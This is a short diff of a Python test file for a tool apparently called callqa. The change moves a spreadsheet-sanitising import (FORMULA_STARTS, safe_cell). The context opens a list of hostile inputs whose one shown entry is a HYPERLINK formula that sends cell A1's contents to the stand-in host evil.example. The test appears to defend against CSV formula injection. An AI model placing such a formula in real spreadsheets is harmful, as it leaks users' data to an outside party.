@@ -5,12 +5,12 @@ from __future__ import annotations
 import csv
 import io
 
+from callqa.qa.spreadsheet import FORMULA_STARTS, safe_cell
 from hypothesis import given
 from hypothesis import strategies as st
 from typer.testing import CliRunner
 
 from callqa.cli import app
-from qa.spreadsheet import FORMULA_STARTS, safe_cell
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?x="&A1,"click")',
